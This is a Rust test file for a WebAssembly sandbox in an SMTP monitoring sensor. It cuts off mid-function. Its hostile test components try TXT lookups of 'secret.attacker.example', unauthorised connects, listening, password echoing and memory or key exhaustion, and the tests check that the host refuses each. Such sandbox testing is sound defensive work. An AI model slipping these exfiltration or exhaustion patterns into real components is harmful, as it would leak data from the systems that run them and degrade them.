//! The host's sandbox against components that misbehave on purpose: one that traps, one
//! that computes forever, one that grabs memory, ones that import files or UDP, look up
//! another name, or connect somewhere other than their targets (the SMTP server, and a
//! round trip's mailbox server, each on its own port). Each must end as a `down`
//! result (or a refusal at load) that says what happened, within the check's time, and
//! never take the host down with it.
//!
//! The components are built here from a few lines of WebAssembly text, typed with the real
//! WIT world, so the host loads them exactly as it loads the real one.

use smtp_sensor_host::engine::Limits;
use smtp_sensor_host::engine::runner::Runner;
use smtp_sensor_host::settings::request::CheckRequest;
use smtp_sensor_host::wit::{CheckResult, ErrorKind, Settings, Status, TransportSecurity};
use std::net::TcpListener;
use std::time::{Duration, Instant};
use wit_component::{ComponentEncoder, StringEncoding, embed_component_metadata};
use wit_parser::Resolve;

/// `text` with `@CONTRACT` made the contract's version (`@0.3.0`), as the WIT file says.
fn contract(text: &str) -> String {
    text.replace(
        "@CONTRACT",
        &format!("@{}", smtp_sensor_host::CONTRACT_VERSION),
    )
}

/// A component of the `smtp-sensor` world whose `check` runs `body` (WebAssembly text).
fn component(body: &str) -> Vec<u8> {
    component_of("smtp-sensor", "", body)
}

/// A component of `world` (in `wit/smtp-sensor.wit`) whose core module starts with `fields`
/// (imports, data) and whose `check` runs `body`.
fn component_of(world: &str, fields: &str, body: &str) -> Vec<u8> {
    let mut resolve = Resolve::new();
    // The contract with the WASI it uses (`wit/deps/`: `dns`'s pollable).
    let wit = concat!(env!("CARGO_MANIFEST_DIR"), "/../wit");
    let (package, _) = resolve.push_dir(wit).expect("parse the WIT");
    let world = resolve
        .select_world(&[package], Some(world))
        .expect("the world");
    let mut module = wat::parse_str(format!(
        r#"(module
            {fields}
            (memory (export "memory") 1)
            (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) i32.const 1024)
            ;; settings and result are passed by pointer: too many values to flatten
            (func (export "check") (param i32) (result i32) {body}))"#
    ))
    .expect("valid WebAssembly text");
    embed_component_metadata(&mut module, &resolve, world, StringEncoding::UTF8, false)
        .expect("embed the world");
    ComponentEncoder::default()
        .module(&module)
        .expect("a core module")
        .validate(true)
        .encode()
        .expect("a component")
}

fn settings(timeout: u32) -> Settings {
    let mut request = CheckRequest::new("127.0.0.1");
    request.port = Some(25);
    request.timeout_seconds = Some(timeout);
    request.security = TransportSecurity::None;
    request.into_settings().unwrap()
}

fn component_failure(result: &CheckResult) -> String {
    assert_eq!(result.status, Status::Down, "{}", result.message);
    match &result.failure.as_ref().expect("a failure").kind {
        ErrorKind::ComponentFailed(why) => why.clone(),
        other => panic!("expected component-failed, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn trapping_component_is_down_not_a_crash() {
    let runner = Runner::from_bytes(&component("unreachable")).unwrap();
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    assert!(why.contains("trapped"), "{why}");
    assert!(
        result.message.contains("the check itself failed"),
        "{}",
        result.message
    );
    assert_eq!(result.channels[1].name, "Downtime");
    assert_eq!(result.channels[1].value, 100.0);
}

#[tokio::test(flavor = "multi_thread")]
async fn spinning_component_is_stopped_after_its_timeout() {
    let runner = Runner::from_bytes(&component("(loop (br 0)) unreachable")).unwrap();
    let started = Instant::now();
    let result = runner.check(&settings(1)).await;
    let took = started.elapsed();
    let why = component_failure(&result);
    assert!(why.contains("did not finish within 2 s"), "{why}");
    // Timeout 1 s plus the 1 s margin, plus an epoch tick and scheduling slack.
    assert!(
        took >= Duration::from_secs(2) && took < Duration::from_secs(3),
        "took {took:?}"
    );
}

/// On one thread (the worst case for a prober), a guest that computes yields at every
/// epoch tick: a healthy check beside it finishes at once, not after the spinner's time.
#[tokio::test(flavor = "current_thread")]
async fn a_spinning_component_does_not_hold_up_other_checks_on_its_thread() {
    let spinner = Runner::from_bytes(&component("(loop (br 0)) unreachable")).unwrap();
    let server =
        smtp_sensor_tests::server::ScriptedServer::start(smtp_sensor_tests::server::normal()).await;
    let mut request =
        smtp_sensor_tests::check::request("127.0.0.1", server.port(), TransportSecurity::None);
    request.timeout_seconds = Some(5);
    let healthy = request.into_settings().unwrap();
    let spinning = settings(1);
    let spin = spinner.check(&spinning);
    let check = async {
        // Let the spinner start computing first.
        tokio::time::sleep(Duration::from_millis(100)).await;
        let started = Instant::now();
        let result = smtp_sensor_tests::check::RUNNER.check(&healthy).await;
        (result, started.elapsed())
    };
    let (spun, (result, took)) = tokio::join!(spin, check);
    assert!(component_failure(&spun).contains("did not finish"));
    assert_eq!(result.status, Status::Up, "{}", result.message);
    assert!(took < Duration::from_millis(1000), "held up for {took:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn memory_hungry_component_hits_the_cap() {
    // Grow by 1 MiB (16 pages) until growth fails; the limiter turns the failure into a trap.
    let body = "(loop (br_if 0 (i32.ne (memory.grow (i32.const 16)) (i32.const -1)))) unreachable";
    let runner = Runner::from_bytes(&component(body))
        .unwrap()
        .with_limits(Limits {
            memory_bytes: 8 << 20,
            ..Limits::default()
        });
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    assert!(why.contains("memory"), "{why}");
}

/// A component that echoes the password into its message (a third-party component need
/// not redact it): the host scrubs every form of it before any output sees it.
#[tokio::test(flavor = "multi_thread")]
async fn a_component_that_echoes_the_password_has_it_scrubbed() {
    // The result record at 16384, all zeros but for a message at 2048 (its length at
    // 16392): "the password is <password> and in base64 <base64 of it>".
    let password = "Echo-Pa55w0rd";
    let base64 = "RWNoby1QYTU1dzByZA==";
    let message = format!("the password is {password} and in base64 {base64}");
    let fields = format!(r#"(data (i32.const 2048) "{message}")"#);
    let body = format!(
        "(i32.store (i32.const 16388) (i32.const 2048))          (i32.store (i32.const 16392) (i32.const {})) (i32.const 16384)",
        message.len()
    );
    let runner = Runner::from_bytes(&component_of("smtp-sensor", &fields, &body)).unwrap();
    let mut request = CheckRequest::new("127.0.0.1");
    request.port = Some(25);
    request.timeout_seconds = Some(5);
    request.security = TransportSecurity::None;
    request.auth = Some(smtp_sensor_host::settings::request::AuthRequest {
        user: "probe".into(),
        password: smtp_sensor_guest::Secret::new(password),
        mechanism: None,
        allow_plaintext: true,
    });
    let result = runner.check(&request.into_settings().unwrap()).await;
    assert!(!result.message.contains(password), "{}", result.message);
    assert!(!result.message.contains(base64), "{}", result.message);
    assert_eq!(
        result.message,
        "the password is [redacted] and in base64 [redacted]"
    );
}

/// A result of a thousand channels whose names all point at one 32 MiB region: a few
/// kilobytes describe 32 GB for the host to copy. The host copies no more than its budget
/// for one call, and says so, quickly.
#[tokio::test(flavor = "multi_thread")]
async fn a_result_of_aliased_strings_is_refused_naming_the_budget() {
    // The result record at 16384: channels (at +12, +16) are 1000 records of 24 bytes at
    // 20480, each a name (pointer, length) at 65536 for 32 MiB, a value and a unit of 0.
    let body = "(local $i i32) (local $at i32)
        (drop (memory.grow (i32.const 513)))
        (i32.store (i32.const 16396) (i32.const 20480))
        (i32.store (i32.const 16400) (i32.const 1000))
        (loop
            (local.set $at (i32.add (i32.const 20480) (i32.mul (local.get $i) (i32.const 24))))
            (i32.store (local.get $at) (i32.const 65536))
            (i32.store (i32.add (local.get $at) (i32.const 4)) (i32.const 33554432))
            (local.set $i (i32.add (local.get $i) (i32.const 1)))
            (br_if 0 (i32.lt_u (local.get $i) (i32.const 1000))))
        (i32.const 16384)";
    let runner = Runner::from_bytes(&component(body)).unwrap();
    let started = Instant::now();
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    let budget = smtp_sensor_host::engine::limits::MAX_COPY_BYTES >> 20;
    assert!(
        why.contains("MAX_COPY_BYTES") && why.contains(&format!("{budget} MiB")),
        "{why}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
}

/// A table grown to 2^28 elements (2 GiB of references, written in one host operation) is
/// refused by the store's cap on table elements, and the component traps.
#[tokio::test(flavor = "multi_thread")]
async fn a_table_grown_past_the_cap_traps() {
    let fields = "(table $t 1 funcref)";
    let body = "(drop (table.grow $t (ref.null func) (i32.const 268435456))) unreachable";
    let runner = Runner::from_bytes(&component_of("smtp-sensor", fields, body)).unwrap();
    let started = Instant::now();
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    assert!(why.contains("table"), "{why}");
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "refused before any element is written: {:?}",
        started.elapsed()
    );
}

/// A prober's runner takes its instances from a pool, one slot reused over and over: each
/// probe must still start from the component's initial memory and hit the same cap. The
/// component traps with a division by zero if it finds what an earlier probe wrote (in the
/// first page, or at the top of the 4 MiB it grows to), else grows until the cap stops it.
#[tokio::test(flavor = "multi_thread")]
async fn pooled_instances_start_clean_and_keep_their_cap() {
    let body = "(local $top i32)
        (if (i32.load (i32.const 512)) (then (drop (i32.div_u (i32.const 1) (i32.const 0)))))
        (i32.store (i32.const 512) (i32.const 1))
        (drop (memory.grow (i32.const 63)))
        (local.set $top (i32.sub (i32.mul (memory.size) (i32.const 65536)) (i32.const 4)))
        (if (i32.load (local.get $top)) (then (drop (i32.div_u (i32.const 1) (i32.const 0)))))
        (i32.store (local.get $top) (i32.const 1))
        (loop (br_if 0 (i32.ne (memory.grow (i32.const 16)) (i32.const -1))))
        unreachable";
    let runner = Runner::from_bytes(&component(body))
        .unwrap()
        .with_limits(Limits {
            memory_bytes: 8 << 20,
            ..Limits::default()
        });
    let (runner, plan) = runner.pooled(1).unwrap();
    assert!(
        plan.to_string()
            .starts_with("pooled for 1 of 1 probes at once"),
        "{plan}"
    );
    for probe in 0..4 {
        let result = runner.check(&settings(5)).await;
        let why = component_failure(&result);
        assert!(
            why.contains("forcing trap when growing memory"),
            "probe {probe}: {why}"
        );
    }
    // Three at once: one gets the pool's slot, the others instances made on demand.
    let s = settings(5);
    let (a, b, c) = tokio::join!(runner.check(&s), runner.check(&s), runner.check(&s));
    for result in [a, b, c] {
        let why = component_failure(&result);
        assert!(why.contains("forcing trap when growing memory"), "{why}");
    }
}

/// The host verifies signatures for the check: a component that hands it a 32 MiB message
/// to verify as Ed25519 ten thousand times, where copying or hashing them would take
/// minutes, is refused at the first, the argument being past the host's copy budget for one
/// call (no handshake message comes near it). It spins if the host ever said yes.
#[tokio::test(flavor = "multi_thread")]
async fn a_component_cannot_make_the_host_copy_or_hash_megabytes() {
    // At 32: Ed25519's AlgorithmIdentifier contents (OID 1.3.101.112), the key's and the
    // signature's.
    let fields = &contract(
        r#"(import "smtp-sensor:probe/signatures@CONTRACT" "verify"
        (func $verify (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)))
        (data (i32.const 32) "\06\03\2b\65\70")"#,
    );
    let body = r#"(local $i i32)
        (drop (memory.grow (i32.const 512)))
        (loop $again
          (if (call $verify (i32.const 32) (i32.const 5) (i32.const 32) (i32.const 5)
                            (i32.const 64) (i32.const 32) (i32.const 0) (i32.const 33554432)
                            (i32.const 128) (i32.const 64))
            (then (loop (br 0))))
          (local.set $i (i32.add (local.get $i) (i32.const 1)))
          (br_if $again (i32.lt_u (local.get $i) (i32.const 10000))))
        unreachable"#;
    let runner =
        Runner::from_bytes(&component_of("smtp-sensor-core", fields, body)).expect("loads");
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    // A 32 MiB argument is past the host's copy budget for one call: refused at once, in
    // those words (without the budget it would get `false` and trap at the end).
    assert!(why.contains("MAX_COPY_BYTES"), "{why}");
}

/// A component that makes the handshake's keys and never drops them traps once it holds
/// as many resources as the sandbox allows, long before its timeout: it cannot pin host
/// memory beyond that (wasmtime alone would allow a million entries).
#[tokio::test(flavor = "multi_thread")]
async fn a_component_cannot_hoard_keys_in_the_host() {
    // generate(x25519) returns option<own<ephemeral-key>> through a pointer (at 64).
    let fields = &contract(
        r#"(import "smtp-sensor:probe/key-agreement@CONTRACT"
        "[static]ephemeral-key.generate" (func $generate (param i32 i32)))"#,
    );
    let body = r#"(local $i i32)
        (loop $again
          (call $generate (i32.const 0) (i32.const 64))
          (local.set $i (i32.add (local.get $i) (i32.const 1)))
          (br_if $again (i32.lt_u (local.get $i) (i32.const 100000))))
        (loop (br 0))
        unreachable"#;
    let runner =
        Runner::from_bytes(&component_of("smtp-sensor-core", fields, body)).expect("loads");
    let result = runner.check(&settings(30)).await;
    let why = component_failure(&result);
    assert!(why.contains("trapped"), "{why}");
    assert!(why.contains("resource table has no free keys"), "{why}");
}

/// A component that asks the host's DNS (the contract's `dns`) for a name its target does
/// not need, a hundred times, is refused every time before any packet (it spins if the host
/// ever started the lookup), and the result's message says what the sandbox refused.
#[tokio::test(flavor = "multi_thread")]
async fn a_component_cannot_look_up_other_names_through_the_hosts_dns() {
    // resolve(name, record-type) returns result<lookup, lookup-error> through a pointer (at
    // 256): its first byte is 0 for a lookup, 1 for an error.
    let fields = &contract(
        r#"(import "smtp-sensor:probe/dns@CONTRACT" "resolve"
        (func $resolve (param i32 i32 i32 i32)))
        (data (i32.const 32) "secret.attacker.example")"#,
    );
    let body = r#"(local $i i32)
        (loop $again
          ;; record-type txt is case 3
          (call $resolve (i32.const 32) (i32.const 23) (i32.const 3) (i32.const 256))
          (if (i32.eqz (i32.load8_u (i32.const 256))) (then (loop (br 0))))
          (local.set $i (i32.add (local.get $i) (i32.const 1)))
          (br_if $again (i32.lt_u (local.get $i) (i32.const 100))))
        unreachable"#;
    let runner =
        Runner::from_bytes(&component_of("smtp-sensor-core", fields, body)).expect("loads");
    let started = std::time::Instant::now();
    let result = runner.check(&settings(5)).await;
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "refused at once"
    );
    let why = component_failure(&result);
    assert!(why.contains("trapped"), "{why}");
    assert!(
        result
            .message
            .contains("the sandbox refused a DNS lookup of TXT secret.attacker.example"),
        "{}",
        result.message
    );
}

/// In a domain check the host's DNS permits the domain's own names (its `_mta-sts` TXT
/// record here), and still refuses any other: a component that asks for `TXT
/// secret.attacker.example` after the domain's record is refused, before any packet (the
/// resolver is a silent loopback socket: a lookup started would hang until the deadline).
#[tokio::test(flavor = "multi_thread")]
async fn a_domain_check_s_component_cannot_look_up_other_names_either() {
    use smtp_sensor_host::engine::dns::{DnsConfig, Resolver};
    use smtp_sensor_host::wit::DomainSettings;
    let fields = &contract(
        r#"(import "smtp-sensor:probe/dns@CONTRACT" "resolve"
        (func $resolve (param i32 i32 i32 i32)))
        (data (i32.const 32) "secret.attacker.example")
        (data (i32.const 64) "_mta-sts.example.test")"#,
    );
    // The domain's own record first: refused (case 1), it divides by zero; then the
    // attacker's: refused, it traps with `unreachable`; started, it spins.
    let body = r#"(call $resolve (i32.const 64) (i32.const 21) (i32.const 3) (i32.const 256))
        (if (i32.load8_u (i32.const 256)) (then (drop (i32.div_u (i32.const 1) (i32.const 0)))))
        (call $resolve (i32.const 32) (i32.const 23) (i32.const 3) (i32.const 256))
        (if (i32.eqz (i32.load8_u (i32.const 256))) (then (loop (br 0))))
        unreachable"#;
    let silent = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let resolver = Resolver::new(DnsConfig {
        servers: vec![silent.local_addr().unwrap()],
        trust_anchors: Vec::new(),
    })
    .expect("a resolver");
    let runner = Runner::from_bytes(&component_of("smtp-sensor-core", fields, body))
        .expect("loads")
        .with_dns(resolver);
    let mut request = CheckRequest::new("example.test");
    request.port = Some(25);
    request.timeout_seconds = Some(5);
    let mut settings = request.into_settings().unwrap();
    settings.domain = Some(DomainSettings {
        expect_mta_sts: None,
        max_age_warning_seconds: smtp_sensor_guest::limits::DEFAULT_STS_MAX_AGE_WARNING_SECONDS,
    });
    let started = std::time::Instant::now();
    let result = runner.check(&settings).await;
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "refused at once"
    );
    let why = component_failure(&result);
    assert!(
        why.contains("unreachable"),
        "the domain's own record refused? {why}"
    );
    assert!(
        result
            .message
            .contains("the sandbox refused a DNS lookup of TXT secret.attacker.example"),
        "{}",
        result.message
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn component_of_another_world_is_refused_at_load() {
    let not_ours = wat::parse_str("(component)").unwrap();
    let error = Runner::from_bytes(&not_ours).err().expect("refused");
    assert!(
        format!("{error:#}").contains("smtp-sensor world"),
        "{error:#}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn component_that_imports_files_or_udp_is_refused_at_load() {
    for interface in [
        "wasi:filesystem/preopens@0.2.6",
        "wasi:filesystem/types@0.2.6",
        "wasi:sockets/udp@0.2.6",
        "wasi:sockets/udp-create-socket@0.2.6",
    ] {
        let asks = wat::parse_str(format!(
            r#"(component (import "{interface}" (instance (export "f" (func)))))"#
        ))
        .unwrap();
        let error = Runner::from_bytes(&asks).err().expect("refused");
        let message = format!("{error:#}");
        assert!(
            message.contains("does not offer") && message.contains(interface),
            "{interface}: {message}"
        );
    }
}

/// A component of the `smtp-sensor` world that also imports WASI's sockets, whose `check`
/// runs `body` with these core functions (the canonical ABI's lowering of the imports):
/// `$network` (instance-network), `$resolve` (network, name pointer, name length, result
/// pointer), `$tcp_socket` (address family, result pointer), `$start_connect` (socket,
/// network, the ip-socket-address variant as 12 words, result pointer), `$start_bind` (the
/// same), `$finish_connect`, `$finish_bind` and `$start_listen` (socket, result pointer). Memory from 2048 holds `data`; results are written at 4096.
fn networked_component(data: &str, body: &str) -> Vec<u8> {
    let mut resolve = Resolve::new();
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/wit-wasi");
    for package in ["io", "clocks", "sockets"] {
        resolve
            .push_file(format!("{dir}/{package}.wit"))
            .expect("parse WASI's WIT");
    }
    let wit = concat!(env!("CARGO_MANIFEST_DIR"), "/../wit/smtp-sensor.wit");
    resolve.push_file(wit).expect("parse the WIT");
    let hostile = resolve
        .push_str(
            "hostile.wit",
            &contract(
                "package test:hostile;
             world hostile {
                 include smtp-sensor:probe/smtp-sensor@CONTRACT;
                 import wasi:sockets/instance-network@0.2.12;
                 import wasi:sockets/ip-name-lookup@0.2.12;
                 import wasi:sockets/tcp-create-socket@0.2.12;
                 import wasi:sockets/tcp@0.2.12;
             }",
            ),
        )
        .expect("the hostile world");
    let world = resolve
        .select_world(&[hostile], Some("hostile"))
        .expect("the world");
    let words = |n: usize| vec!["i32"; n].join(" ");
    let mut module = wat::parse_str(format!(
        r#"(module
            (import "wasi:sockets/instance-network@0.2.12" "instance-network"
                (func $network (result i32)))
            (import "wasi:sockets/ip-name-lookup@0.2.12" "resolve-addresses"
                (func $resolve (param i32 i32 i32 i32)))
            (import "wasi:sockets/tcp-create-socket@0.2.12" "create-tcp-socket"
                (func $tcp_socket (param i32 i32)))
            (import "wasi:sockets/tcp@0.2.12" "[method]tcp-socket.start-connect"
                (func $start_connect (param {connect})))
            (import "wasi:sockets/tcp@0.2.12" "[method]tcp-socket.finish-connect"
                (func $finish_connect (param i32 i32)))
            (import "wasi:sockets/tcp@0.2.12" "[method]tcp-socket.start-listen"
                (func $start_listen (param i32 i32)))
            (import "wasi:sockets/tcp@0.2.12" "[method]tcp-socket.start-bind"
                (func $start_bind (param {connect})))
            (import "wasi:sockets/tcp@0.2.12" "[method]tcp-socket.finish-bind"
                (func $finish_bind (param i32 i32)))
            (import "wasi:sockets/ip-name-lookup@0.2.12" "[resource-drop]resolve-address-stream"
                (func $drop_lookup (param i32)))
            (import "wasi:sockets/tcp@0.2.12" "[resource-drop]tcp-socket"
                (func $drop_socket (param i32)))
            (memory (export "memory") 1)
            (data (i32.const 2048) "{data}")
            (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) i32.const 8192)
            (func (export "check") (param i32) (result i32) {body}))"#,
        connect = words(15),
    ))
    .expect("valid WebAssembly text");
    embed_component_metadata(&mut module, &resolve, world, StringEncoding::UTF8, false)
        .expect("embed the world");
    ComponentEncoder::default()
        .module(&module)
        .expect("a core module")
        .validate(true)
        .encode()
        .expect("a component")
}

/// `wasi:sockets/network`'s error codes the tests look for.
const ACCESS_DENIED: u32 = 1;
const NEW_SOCKET_LIMIT: u32 = 10;
const NAME_UNRESOLVABLE: u32 = 18;
const PERMANENT_RESOLVER_FAILURE: u32 = 20;

/// WebAssembly that traps with `unreachable` when the error code at 4096 (a result's case
/// byte, then its error byte at `offset`) is `code`, and divides by zero otherwise: the trap
/// says which way the host answered.
fn trap_if_error(offset: u32, code: u32) -> String {
    format!(
        "(if (i32.and (i32.eq (i32.load8_u (i32.const 4096)) (i32.const 1))
                      (i32.eq (i32.load8_u (i32.const {at})) (i32.const {code})))
             (then unreachable))
         (i32.div_u (i32.const 1) (i32.const 0))",
        at = 4096 + offset
    )
}

/// A connect from a fresh IPv4 socket to `address`:`port`, trapping as [`trap_if_error`]
/// says for access-denied. wasmtime-wasi checks the address when the connect is finished
/// (start-connect only queues it), so the body finishes it.
fn connect_body(address: [u8; 4], port: u16) -> String {
    let [a, b, c, d] = address;
    format!(
        "(local $net i32) (local $socket i32)
         (local.set $net (call $network))
         (call $tcp_socket (i32.const 0) (i32.const 4096))
         (local.set $socket (i32.load (i32.const 4100)))
         (call $start_connect
             (local.get $socket) (local.get $net)
             (i32.const 0) (i32.const {port}) (i32.const {a}) (i32.const {b}) (i32.const {c})
             (i32.const {d}) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
             (i32.const 0) (i32.const 0)
             (i32.const 4096))
         (call $finish_connect (local.get $socket) (i32.const 4096))
         {trap}",
        trap = trap_if_error(4, ACCESS_DENIED)
    )
}

fn checked_against(host: &str, port: u16) -> Settings {
    let mut request = CheckRequest::new(host);
    request.port = Some(port);
    request.timeout_seconds = Some(5);
    request.security = TransportSecurity::None;
    request.into_settings().unwrap()
}

/// Runs `body` (see [`networked_component`]) against `settings`; returns how the component
/// trapped (`unreachable`: the host answered as [`trap_if_error`] expects; divide by zero:
/// it did not) and the result's message.
async fn run_networked(data: &str, body: &str, settings: &Settings) -> (String, String) {
    let runner = Runner::from_bytes(&networked_component(data, body)).unwrap();
    let result = runner.check(settings).await;
    (component_failure(&result), result.message)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_component_may_look_up_only_the_configured_name() {
    let lookup = format!(
        "(call $resolve (call $network) (i32.const 2048) (i32.const 12) (i32.const 4096)) {}",
        trap_if_error(4, NAME_UNRESOLVABLE)
    );
    let (why, message) =
        run_networked("evil.example", &lookup, &checked_against("localhost", 25)).await;
    assert!(
        why.contains("unreachable"),
        "the lookup was not refused: {why}"
    );
    assert!(
        message.ends_with("(the sandbox refused a lookup of \"evil.example\")"),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_component_may_connect_only_to_its_target() {
    // A listener that must see no connection from a refused connect; nothing else on the
    // machine is contacted.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let cases = [
        // (configured host, port; where the component connects; why it is refused)
        (
            "localhost",
            port,
            [127, 0, 0, 1],
            port,
            "a host name's address it never looked up",
        ),
        (
            "127.0.0.1",
            port,
            [127, 0, 0, 2],
            port,
            "another address on the right port",
        ),
        (
            "127.0.0.1",
            port,
            [127, 0, 0, 1],
            port + 1,
            "the right address on another port",
        ),
    ];
    for (host, configured, address, to_port, what) in cases {
        let body = connect_body(address, to_port);
        let (why, message) = run_networked("", &body, &checked_against(host, configured)).await;
        assert!(why.contains("unreachable"), "{what}: not refused: {why}");
        let [a, b, c, d] = address;
        assert!(
            message.ends_with(&format!(
                "(the sandbox refused a connection to {a}.{b}.{c}.{d}:{to_port})"
            )),
            "{what}: {message}"
        );
    }
    // The same component, connecting where it may: the host lets it (so the refusals above
    // are the sandbox's, not a broken test component).
    let body = connect_body([127, 0, 0, 1], port);
    let (why, message) = run_networked("", &body, &checked_against("127.0.0.1", port)).await;
    assert!(why.contains("divide by zero"), "{why}");
    assert!(!message.contains("sandbox refused"), "{message}");
}

/// Settings of a round trip: the SMTP server `smtp`, the mailbox server `mailbox`.
fn round_trip_against(smtp: (&str, u16), mailbox: (&str, u16)) -> Settings {
    use smtp_sensor_host::settings::request::{EmailRequest, MailboxRequest};
    use smtp_sensor_host::wit::MailboxProtocol;
    let mut request = CheckRequest::new(smtp.0);
    request.port = Some(smtp.1);
    request.timeout_seconds = Some(5);
    request.security = TransportSecurity::None;
    request.email = Some(EmailRequest {
        from: "probe@sensor.test".into(),
        to: vec!["rcpt@sensor.test".into()],
        subject: "s".into(),
        body: "b".into(),
        send_data: true,
    });
    request.mailbox = Some(MailboxRequest {
        protocol: MailboxProtocol::Imap,
        host: Some(mailbox.0.into()),
        port: Some(mailbox.1),
        security: TransportSecurity::Tls,
        tls_server_name: None,
        user: "rcpt".into(),
        password: smtp_sensor_guest::Secret::new("pw-secret"),
        allow_plaintext: false,
        token_prefix: None,
        latency_warning: None,
        latency_critical: None,
        spam_folders: None,
        authserv_id: None,
        expect_auth: Vec::new(),
    });
    request.into_settings().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_round_trip_component_reaches_each_target_only_on_its_own_port() {
    // Listeners that must see no connection from a refused connect.
    let smtp = TcpListener::bind("127.0.0.1:0").unwrap();
    let mailbox = TcpListener::bind("127.0.0.3:0").unwrap();
    let (smtp_port, mailbox_port) = (
        smtp.local_addr().unwrap().port(),
        mailbox.local_addr().unwrap().port(),
    );
    let settings = round_trip_against(("127.0.0.1", smtp_port), ("127.0.0.3", mailbox_port));
    let refused = [
        (
            [127, 0, 0, 1],
            mailbox_port,
            "the SMTP server on the mailbox's port",
        ),
        (
            [127, 0, 0, 3],
            smtp_port,
            "the mailbox server on the SMTP port",
        ),
        (
            [127, 0, 0, 4],
            mailbox_port,
            "a third address on the mailbox's port",
        ),
    ];
    for (address, port, what) in refused {
        let (why, message) = run_networked("", &connect_body(address, port), &settings).await;
        assert!(why.contains("unreachable"), "{what}: not refused: {why}");
        assert!(
            message.contains("sandbox refused a connection"),
            "{what}: {message}"
        );
    }
    for (address, port) in [([127, 0, 0, 1], smtp_port), ([127, 0, 0, 3], mailbox_port)] {
        let (why, message) = run_networked("", &connect_body(address, port), &settings).await;
        assert!(why.contains("divide by zero"), "{address:?}:{port}: {why}");
        assert!(!message.contains("sandbox refused"), "{message}");
    }
    // A mailbox named by its host name may be looked up; any other name may not.
    let named = round_trip_against(("127.0.0.1", smtp_port), ("localhost", mailbox_port));
    let lookup = format!(
        "(call $resolve (call $network) (i32.const 2048) (i32.const 9) (i32.const 4096)) {}",
        trap_if_error(4, NAME_UNRESOLVABLE)
    );
    let (why, _) = run_networked("localhost", &lookup, &named).await;
    assert!(why.contains("divide by zero"), "the mailbox's name: {why}");
    let (why, message) = run_networked("evil.test", &lookup, &named).await;
    assert!(why.contains("unreachable"), "another name: {why}");
    assert!(message.contains("a lookup of \"evil.test\""), "{message}");
    // The password never reaches the result, whatever the component does.
    assert!(!message.contains("pw-secret"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_claiming_hundreds_of_megabytes_is_refused() {
    // The result record at 16384, all zeros (status up, empty strings and lists, no
    // options) but for a message said to be 300 MB long: more than the component's memory
    // (capped at 64 MiB) can hold, so the host refuses to read it instead of trying.
    let runner = Runner::from_bytes(&component(
        "(i32.store (i32.const 16392) (i32.const 300000000)) (i32.const 16384)",
    ))
    .unwrap();
    let started = Instant::now();
    let result = runner.check(&settings(5)).await;
    let why = component_failure(&result);
    assert!(why.contains("out of bounds"), "{why}");
    assert!(started.elapsed() < Duration::from_secs(2));
    // The same record with a 5-byte message is read as written (so the test does reach the
    // message's length), and the host is unharmed.
    let runner = Runner::from_bytes(&component(
        "(i32.store (i32.const 16392) (i32.const 5)) (i32.const 16384)",
    ))
    .unwrap();
    let sane = runner.check(&settings(5)).await;
    assert_eq!(sane.status, Status::Up, "{}", sane.message);
    assert_eq!(sane.message, "\0\0\0\0\0");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_component_may_not_listen() {
    let listen = format!(
        "(local $socket i32)
         (call $tcp_socket (i32.const 0) (i32.const 4096))
         (local.set $socket (i32.load (i32.const 4100)))
         ;; Bind to 0.0.0.0:0, which the sandbox allows (a connect does it implicitly), then
         ;; listen, which it must not.
         (call $start_bind (local.get $socket) (call $network)
             (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
             (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
             (i32.const 0) (i32.const 0) (i32.const 4096))
         (call $finish_bind (local.get $socket) (i32.const 4096))
         (call $start_listen (local.get $socket) (i32.const 4096))
         {}",
        trap_if_error(1, ACCESS_DENIED)
    );
    let (why, message) = run_networked("", &listen, &checked_against("127.0.0.1", 25)).await;
    assert!(
        why.contains("unreachable"),
        "listening was not refused: {why}"
    );
    assert!(
        message.contains("(the sandbox refused listening on 0.0.0.0:"),
        "{message}"
    );
}

/// WebAssembly that runs `setup`, then `step` (which writes a result at 4096) up to `times` times and
/// counts in `$ok` the steps that succeeded, running `on_ok` after each (the handle is at
/// 4100). The first failure after `expected_ok` successes with error `code` traps with
/// `unreachable`; any other outcome divides by zero.
fn count_until_refused(
    setup: &str,
    step: &str,
    on_ok: &str,
    times: u32,
    expected_ok: usize,
    code: u32,
) -> String {
    format!(
        "(local $i i32) (local $ok i32) (local $refused i32)
         {setup}
         (block $done
           (loop $more
             {step}
             (if (i32.load8_u (i32.const 4096))
                 (then
                   (if (i32.and (i32.eqz (local.get $refused))
                                (i32.eq (i32.load8_u (i32.const 4100)) (i32.const {code})))
                       (then (local.set $refused (i32.add (local.get $ok) (i32.const 1))))))
                 (else
                   (local.set $ok (i32.add (local.get $ok) (i32.const 1)))
                   {on_ok}))
             (local.set $i (i32.add (local.get $i) (i32.const 1)))
             (br_if $more (i32.lt_u (local.get $i) (i32.const {times})))))
         ;; $refused is one more than the successes before the first refusal.
